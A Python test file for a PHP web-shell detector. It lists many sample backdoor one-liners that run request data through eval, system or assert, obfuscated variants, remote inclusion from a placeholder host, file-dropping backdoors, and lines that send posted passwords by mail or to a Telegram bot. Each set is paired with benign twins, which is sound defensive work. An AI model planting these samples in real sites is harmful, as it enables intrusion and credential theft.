"""What the analysis of PHP points at and leaves alone. The samples are ours, and inert."""

from __future__ import annotations

import base64
import zlib

import pytest

from pratique.content.base import Content
from pratique.content.mark import Mark
from pratique.content.names import PHP_CODE
from pratique.content.php.analysis import LENGTH_LIMIT, find
from pratique.model import Gap

SURE = 0.7


def rows(source: str | bytes) -> list[Mark | Gap]:
    content = source if isinstance(source, bytes) else source.encode()
    content = b"<?php " + content
    found = find(Content(content, "/srv/a/x.php", "php"))
    return [row for row in found if isinstance(row, Gap) or row.mark != PHP_CODE]


def sure(source: str) -> set[str]:
    return {row.mark for row in rows(source) if isinstance(row, Mark) and row.confidence >= SURE}


RUNS_REQUEST = [
    "eval($_POST['c']);",
    "@eval( stripslashes( $_REQUEST[0] ) );",
    "assert($_COOKIE['a']);",
    "eval(base64_decode($_POST['c']));",
    "$x = $_POST['c']; $y = 'a' . $x; eval($y);",
    "foreach ($_POST as $k => $v) { eval($v); }",
    "list($a, $b) = explode('|', $_GET['q']); eval($b);",
    "extract($_POST); eval($code);",
    "foreach ($_GET as $k => $v) { $$k = $v; } system($cmd);",
    "parse_str($_SERVER['QUERY_STRING']); eval($a);",
    "function run($c) { return eval($c); } run($_POST['x']);",
    "function dec($c) { return strrev($c); } eval(dec($_COOKIE['k']));",
    "class A { function go($x) { eval($x); } } (new A)->go($_GET['a']);",
    "class A { public $p; function a() { $this->p = $_GET[1]; } function b() { eval($this->p); } }",
    "$f = function ($x) { eval($x); }; $f($_POST['a']);",
    "array_map(function ($x) { eval($x); }, $_POST);",
    "function g() { global $q; eval($q); } $q = $_GET['q'];",
    "system($_GET['c']);",
    "function f($m = 'sys' . 'tem') { $m($_GET['c']); }",
    "echo shell_exec($_SERVER['HTTP_X_CMD']);",
    "echo `{$_GET['c']}`;",
    "passthru(getenv('HTTP_ACCEPT_LANGUAGE'));",
    "mail('a@a.example', 's', 'b', '', $_GET['x']);",
    "eval(file_get_contents('php://input'));",
    "$h = getallheaders(); eval($h['X-A']);",
    "include $_GET['p'];",
    "include 'php://input';",
    "$f = ''; $f .= $_GET['x']; $f();",
    "$f = $_GET['a'] . 'x'; if ($b) { $f = 'c'; } $f();",
    "@$_GET['f']($_GET['x']);",
    "$f = $_POST['a']; $f($x);",
    "call_user_func($_GET['f'], 1);",
    "array_filter(array($_POST['x']), 'assert');",
    "usort($a, $_GET['f']);",
    "new $_GET['c']($_GET['x']);",
    "$r = new ReflectionFunction($_GET['f']); $r->invoke(1);",
    "preg_replace('/.*/e', $_REQUEST['x'], '');",
    "filter_var($_REQUEST['x'], FILTER_CALLBACK, array('options' => 'assert'));",
    "${'_P'.'OST'}; eval(${'_P' . 'OST'}['x']);",
    "$n = '_GET'; eval($$n['x']);",
    r'eval($GLOBALS["\x5fPOST"]["x"]);',
    "$x = 'ass' . 'ert'; $x($_POST['z']);",
    "$x = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $x($_GET['c']);",
    "$s = 'metsys'; $f = strrev($s); $f($_GET['c']);",
    "$t = 'abemlstyx'; $f = $t[5].$t[7].$t[5].$t[6].$t[2].$t[3]; $f($_GET['c']);",
    "$a = str_replace('z', '', 'szyzsztezm'); $a($_GET['c']);",
    "eval/**/($_GET['a']);",
    "eval($_GET{'a'});",
    "$f = passthru; $f($_GET['c']);",
    "$a = join(array_diff(['s', 'x', 'y'], ['x'])); $a($_POST['x']);",
    "foreach (['_GET', '_POST'] as $n) { foreach ($$n as $k => $v) { $$k = $v; } } eval($c);",
    "call_user_func(create_function('', 'assert($_POST[1]);'));",
    r"""array_map("ass\x65rt", (array) $_REQUEST['x']);""",
    "$f = preg_filter('/\\s+/', '', 'as s er t'); $f($_REQUEST['x']);",
    "function b() { return \"l(\\$_POST['\"; } assert('eva' . b() . \"x']);\");",
    "$a = new ArrayObject(['t' => 1, $_REQUEST['x'] => 2]); $a->uksort('assert');",
    "preg_replace_callback('/.+/', create_function('$a', 'return assert($a[0]);'), $_GET['x']);",
    "$a = 'e'; $b = 'val($'; $c = '_POST'; $p = $a . $b . $c . '[1]);'; eval($p);",
    "$i = new ArrayIterator([$_GET[1]]); new CallbackFilterIterator($i, 'assert');",
    "class T { function __construct($f, $x) { $f($x); } } new T($_GET['a'], $_GET['b']);",
    "usort(...$_GET);",
    "$r = new ReflectionFunction('system'); $r->invoke($_GET['c']);",
    "$a = get_defined_functions(); $a['internal'][457]($_GET['x']);",
]


@pytest.mark.parametrize("source", RUNS_REQUEST)
def test_data_of_a_request_that_runs(source):
    assert "php-runs-request" in sure(source)


@pytest.mark.parametrize(
    "source",
    [
        "eval('$x = 1;'); echo $_GET['a'];",
        "system('ls ' . escapeshellarg($_GET['d']));",
        "exec('kill ' . intval($_GET['pid']));",
        "exec('kill ' . (int) $_GET['pid']);",
        "$map = ['a' => 'show']; $f = $map[$_GET['do']]; $f();",
        "if (in_array($_GET['a'], ['x', 'y'])) { $f = $_GET['a']; $f(); }",
        "$f = 'action_' . $_GET['a']; $f();",
        "include 'pages/' . $_GET['p'] . '.php';",
        "$f = '/etc/a-' . $_SERVER['HTTP_HOST']; if ($x) { $f = '/etc/b'; } require $f;",
        "$f = 'show_'; $f .= $_GET['x']; $f();",
        "include __DIR__ . '/' . basename($_GET['p']);",
        "$x = $_GET['a'] == 'b' ? 'c' : 'd'; include $x;",
        "array_map('trim', $_POST);",
        "usort($_POST['a'], function ($x, $y) { return $x <=> $y; });",
        "assert(is_string($_GET['a']));",
        "assert($_GET['a'] instanceof X);",
        "preg_replace('/a/i', $_GET['x'], 'b');",
        "preg_replace('/([a-z])/e', 'strtoupper(\"$1\")', $_GET['x']);",
        "$this->exec($_GET['a']);",
        "function system($x) {} system($_GET['a']);",
        "new PDO($_SERVER['DB']);",
        "$cb = $this->callbacks[$_GET['a']]; $cb();",
        "$f = 'sanitize_' . str_replace('-', '_', $type); $f($_POST['a']);",
        "echo htmlspecialchars($_GET['q']);",
    ],
)
def test_data_of_a_request_that_does_not_run(source):
    assert "php-runs-request" not in sure(source)


@pytest.mark.parametrize(
    ("mark", "source"),
    [
        ("php-runs-decoded", "eval(gzinflate(base64_decode('AAAA')));"),
        ("php-runs-decoded", "$a = 'base' . '64_decode'; eval($a('AAAA'));"),
        ("php-runs-decoded", "function d($s) { return $s ^ 'key'; } eval(d('AAAA'));"),
        ("php-runs-decoded", "assert(str_rot13('riny'));"),
        ("php-runs-decoded", "include 'data:text/plain;base64,AAAA';"),
        ("php-runs-decoded", "$f = 'create_' . 'function'; $f('', 'x');"),
        ("php-runs-decoded", "eval(substr(file_get_contents(__FILE__), 100));"),
        ("php-runs-remote", "eval(file_get_contents('http://b.example/x.txt'));"),
        ("php-runs-remote", "$c = curl_init('https://b.example/'); eval(curl_exec($c));"),
        ("php-runs-remote", "include 'http://b.example/x.txt';"),
        ("php-runs-remote", "file_put_contents('a.php', file_get_contents('http://b.example/x'));"),
        ("php-hidden-include", r'@include "\x2fhome\x2fa\x2f.x.ico";'),
        ("php-hidden-include", r'@include "\057home\057a\057x.txt";'),
        ("php-hidden-include", "require 'images/logo.png';"),
        ("php-hidden-include", "include base64_decode('L3RtcC94');"),
        ("php-writes-request", "file_put_contents($_POST['n'], $_POST['c']);"),
        ("php-writes-request", "$h = fopen('x.php', 'w'); fwrite($h, $_GET['c']);"),
        (
            "php-writes-request",
            "move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);",
        ),
        ("php-mails-password", "mail('a@b.example', 's', 'p: ' . $_POST['password']);"),
        (
            "php-mails-password",
            "foreach ($_POST as $v) { $m .= $v; } mail('a@b', '', $m); ?><input type=password>",
        ),
        (
            "php-mails-password",
            "file_get_contents('https://api.telegram.org/bot1/send?text=' . $_POST['pin']);",
        ),
        ("php-mails-password", "file_put_contents('log.txt', $_POST['passwd'], FILE_APPEND);"),
        ("php-long-hidden-line", "$a = 1;" + " " * 150 + "eval($x);"),
    ],
)
def test_points_at(mark, source):
    assert mark in sure(source)


@pytest.mark.parametrize(
    "source",
    [
        "$x = base64_decode($row['data']); echo $x;",
        "include 'header.php'; include __DIR__ . '/../vendor/autoload.php';",
        "$body = file_get_contents('https://api.example/v1'); $d = json_decode($body);",
        "mail($user->email, 'Welcome', 'Hello ' . $_POST['name']);",
        "file_put_contents('/var/cache/x.txt', $_POST['comment']);",
        "if (!in_array($ext, $ok)) die; move_uploaded_file($_FILES['f']['tmp_name'], $name);",
        "$a = ['x' => 1,\n" + " " * 150 + "'y' => 2];",
        "$f = 'get_' . $type; $f();",
        "echo preg_replace('/[^a-z]/', '', $_GET['x']);",
    ],
)
def test_leaves_alone(source):
    assert sure(source) == set()


def test_says_how_the_data_gets_there():
    (mark,) = rows("\n$x = $_POST['c'];\neval(base64_decode($x));\n")
    assert mark.line == 3
    assert mark.why == (
        "The value of $_POST['c'] (line 2) goes through base64_decode (line 3)"
        " and is run by eval on line 3."
    )


def test_a_long_source_is_told():
    content = b"eval($_GET[1]);" + b"//" + b"x" * LENGTH_LIMIT
    reasons = {row.reason for row in rows(content) if isinstance(row, Gap)}
    assert reasons == {"longer than the PHP analysis reads"}


def test_what_follows_the_halt_statement_hides_nothing():
    junk = bytes((i * 7919) % 251 for i in range(20_000))
    found = rows(b"eval($_GET[1]);__halt_compiler();" + junk)
    assert "php-runs-request" in {row.mark for row in found if isinstance(row, Mark)}


@pytest.mark.parametrize(
    "source",
    [
        "eval(" + "(" * 20_000 + "$_GET[1]" + ")" * 20_000 + ");",
        "eval('a'" + ".'b'" * 20_000 + ".$_GET[1]);",
        "eval($_GET[1]); $x = " + "[" * 20_000,
        "eval($_GET[1]);" + "if(1){" * 20_000 + "}" * 20_000,
    ],
)
def test_depth_is_no_hiding_place(source):
    assert "php-runs-request" in sure(source)


def test_more_connections_than_are_followed_are_told():
    tangle = "$a = $a . $b;" * 3000 + "eval($a . base64_decode($a));" * 3000
    assert "PHP with more connections than are followed" in {
        row.reason for row in rows(tangle) if isinstance(row, Gap)
    }


def deflated(text: str) -> str:
    packed = zlib.compress(text.encode(), 9)[2:-4]
    return f"gzinflate(base64_decode('{base64.b64encode(packed).decode()}'))"


def xored(name: str) -> str:
    mixed = bytes(c ^ ord("k") for c in name.encode())
    return f"(hex2bin('{mixed.hex()}') ^ '{'k' * len(name)}')"


def in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SPLIT = """
$k = 'if (time() < 0) { ev!qal($_PO!qST["c"]); }';
$f = str_replace('w', '', '%s');
$g = $f('', str_replace('!q', '', $k));
"""
DIFFERENCE = "$f = join(array_diff(str_split('%s'), ['x'])); array_map($f, array($_POST['c']));"


# Each with its near twin, which hides in the same way and does nothing to anybody.
@pytest.mark.parametrize(
    ("marks", "source", "twin"),
    [
        (
            {"php-runs-request", "php-runs-decoded"},
            SPLIT % "crweawtew_fuwnction",
            SPLIT % "swtr_wrewplawce",
        ),
        (
            {"php-runs-request", "php-runs-decoded"},
            DIFFERENCE % "sxyxsxtxexm",
            DIFFERENCE % "xtxrxixmx",
        ),
        (
            {"php-runs-request", "php-runs-decoded"},
            f"eval({deflated('eval(' + deflated('eval($_POST[1]);') + ');')});",
            f"echo {deflated('echo ' + deflated('eval($_POST[1]);') + ';')};",
        ),
        (
            {"php-hidden-include"},
            f"@include base64_decode('{in_base64('/srv/a/.5f1c.ico')}');",
            "@include '/srv/a/' . 'lib' . '/header.php';",
        ),
        (
            {"php-hidden-include"},
            r'@include "\057sr\166/a/.\146av\x2eico";',
            r'echo "\057sr\166/a/.\146av\x2eico";',
        ),
        (
            {"php-runs-request", "php-runs-decoded"},
            f"$f = {xored('shell_exec')}; echo $f($_POST['c']);",
            f"$f = {xored('strtolower')}; echo $f($_POST['c']);",
        ),
    ],
    ids=["str_replace", "array_diff", "two layers", "include", "escapes", "exclusive or"],
)
def test_what_is_hidden_is_found_and_its_innocent_twin_is_not(marks, source, twin):
    assert sure(source) >= marks
    assert sure(twin) == set()


def test_a_mark_in_a_layer_says_how_deep_it_lies_and_points_at_the_file():
    inner = "eval(" + deflated("\n\nif (time() < 0) { system($_GET['c']); }") + ");"
    found = rows("\n\neval(" + deflated(inner) + ");")
    (mark,) = [row for row in found if isinstance(row, Mark) and row.mark == "php-runs-request"]
    assert mark.line == 3
    assert mark.quote == "system($_GET['c'])"
    assert "hidden under 2 layers" in mark.why


def test_what_takes_too_many_steps_is_told():
    endless = "eval(" + deflated("$x = 'a'; while (true) { $x = md5($x); }") + ");"
    reasons = {row.reason for row in rows(endless) if isinstance(row, Gap)}
    assert reasons == {"PHP that takes too many steps"}


@pytest.mark.parametrize(
    "source",
    [
        "file_put_contents('a.php', '<?php ev' . 'al($_POST[1]);');",
        "$t = base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOw=='); fputs(fopen('a.php', 'w'), $t);",
        "fputs(fopen(c.php, w), '<? eval($_POST[1]);?>');",
        "fputs(fopen('a.php', 'w'), pack('H*', '3c3f706870206576616c28245f504f53545b315d293b'));",
        "$a = '<?php @eval(' . '$' . '_POST[c]);?>'; file_put_contents('x.jpg' . chr(9), $a);",
    ],
)
def test_a_program_that_is_written(source):
    assert "php-drops-program" in sure(source)


@pytest.mark.parametrize(
    "source",
    [
        "file_put_contents('config.php', '<?php $db = ' . var_export($x, true) . ';');",
        "file_put_contents('a.php', '<?php return ' . '1;');",
    ],
)
def test_a_program_that_is_written_and_does_nothing(source):
    assert "php-drops-program" not in sure(source)
